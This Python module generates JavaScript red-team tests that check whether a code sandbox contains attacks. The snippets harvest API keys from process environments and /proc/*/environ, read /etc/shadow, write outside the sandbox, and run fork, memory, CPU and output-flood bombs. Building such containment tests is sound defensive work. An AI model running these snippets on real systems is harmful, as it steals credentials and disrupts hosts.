"""The red-team attacks written in JavaScript (ESM test files run by ``node --test``).

Each test asserts that its attack worked, like the Python ones in test_sandbox_red_team.py, so a
contained attack is a failing atom. ``token`` goes into every process's command line so leftover
processes can be found on the host.
"""

from __future__ import annotations

import json
from pathlib import Path

from mge.sandbox import Threat

HEAD = 'import { test } from "node:test";\nimport assert from "node:assert/strict";\n'
HEAD += 'import fs from "node:fs";\n'


def js_attacks(port: int, outside: Path, scratch: Path, token: str) -> dict[Threat, str]:
    canary = json.dumps(str(outside / "canary.txt"))
    pwned = json.dumps(str(outside / "pwned.txt"))
    scratch_s = json.dumps(str(scratch))
    child = json.dumps(f"setInterval(() => {{}}, 1000); // {token}")
    return {
        Threat.NETWORK: HEAD
        + f"""import net from "node:net";
test("reach the host", async () => {{
  await new Promise((resolve, reject) => {{
    const s = net.connect({{ host: "127.0.0.1", port: {port} }}, () =>
      s.write("PWNED", () => {{ s.destroy(); resolve(); }}));
    s.on("error", reject);
    s.setTimeout(3000, () => reject(new Error("timed out")));
  }});
}});
""",
        Threat.ENV_SECRETS: HEAD
        + """const NAMES = ["MGE_FAKE_SECRET=", "ANTHROPIC_API_KEY="];
test("find secrets", () => {
  const found = [];
  for (const [k, v] of Object.entries(process.env)) {
    if (NAMES.includes(k + "=")) found.push(`${k}=${v}`);
  }
  for (const pid of fs.readdirSync("/proc").filter((p) => /^\\d+$/.test(p))) {
    let data;
    try { data = fs.readFileSync(`/proc/${pid}/environ`, "latin1"); } catch { continue; }
    for (const e of data.split("\\0")) if (NAMES.some((n) => e.startsWith(n))) found.push(e);
  }
  fs.writeFileSync("loot.txt", JSON.stringify(found));
  assert.ok(found.length > 0);
});
""",
        Threat.HOST_FILES_READ: HEAD
        + f"""test("read host files", () => {{
  const got = [];
  for (const p of [{canary}, "/etc/shadow", "/root/.bashrc"]) {{
    try {{ got.push(fs.readFileSync(p, "utf8").slice(0, 200)); }} catch {{}}
  }}
  fs.writeFileSync("loot.txt", JSON.stringify(got));
  assert.ok(got.length > 0);
}});
""",
        Threat.HOST_FILES_WRITE: HEAD
        + f"""test("write outside", () => {{
  const targets = [{pwned}];
  try {{
    for (const b of fs.readdirSync({scratch_s}).filter((d) => d.startsWith("mge-batch-"))) {{
      for (const d of fs.readdirSync(`${{{scratch_s}}}/${{b}}`)) {{
        const full = `${{{scratch_s}}}/${{b}}/${{d}}`;
        if (fs.realpathSync(full) !== fs.realpathSync(".")) targets.push(full + "/pwned.txt");
      }}
    }}
  }} catch {{}}
  const wrote = [];
  for (const t of [...targets, "/tmp/pwned-{token}.txt", "/pwned-{token}.txt"]) {{
    try {{ fs.writeFileSync(t, "pwned"); wrote.push(t); }} catch {{}}
  }}
  assert.ok(wrote.some((w) => targets.includes(w)));
}});
""",
        Threat.KERNEL_SETTINGS: HEAD
        + """test("write a sysctl", () => {
  const path = "/proc/sys/kernel/core_pattern";
  fs.writeFileSync(path, fs.readFileSync(path, "utf8"));  // the same value: harmless anyway
});
""",
        Threat.FORK_BOMB: HEAD
        + f"""import {{ spawn }} from "node:child_process";
test("fork bomb", async () => {{
  for (let i = 0; i < 100000; i++) {{
    try {{
      spawn(process.execPath, ["-e", {child}], {{ stdio: "ignore" }}).on("error", () => {{}});
    }} catch {{}}
  }}
  await new Promise((resolve) => setTimeout(resolve, 60000));
}});
""",
        Threat.MEMORY_BOMB: HEAD
        + """test("eat memory", () => {
  const blocks = [];
  for (;;) blocks.push(new Array(1 << 20).fill(1.5));
});
""",
        Threat.CPU_LOOP: HEAD
        + """test("spin", () => {
  for (;;) {}
});
""",
    }


def js_flood(token: str) -> list[str]:
    """The output-flood command (synchronous writes: process.stdout.write would only buffer)."""
    flood = f"const s = 'x'.repeat(65536); for (;;) require('fs').writeSync(1, s); // {token}"
    return ["node", "-e", flood]


def _honest(name: str, check: str) -> str:
    return HEAD + f'import {{ {name} }} from "../pkg/{name}.mjs";\ntest("{name}", () => {check});\n'


JS_GOOD = {
    "good-add": (
        "pkg/add.mjs",
        "export const add = (a, b) => a + b;\n",
        _honest("add", "assert.equal(add(2, 3), 5)"),
    ),
    "good-shared": (
        "pkg/twice.mjs",
        'import { BASE } from "./base.mjs";\nexport const twice = () => 2 * BASE;\n',
        _honest("twice", "assert.equal(twice(), 42)"),
    ),
    "good-str": (
        "pkg/shout.mjs",
        "export const shout = (s) => s.toUpperCase() + '!';\n",
        _honest("shout", 'assert.equal(shout("a"), "A!")'),
    ),
}
JS_SHARED = {"pkg/base.mjs": "export const BASE = 21;\n"}
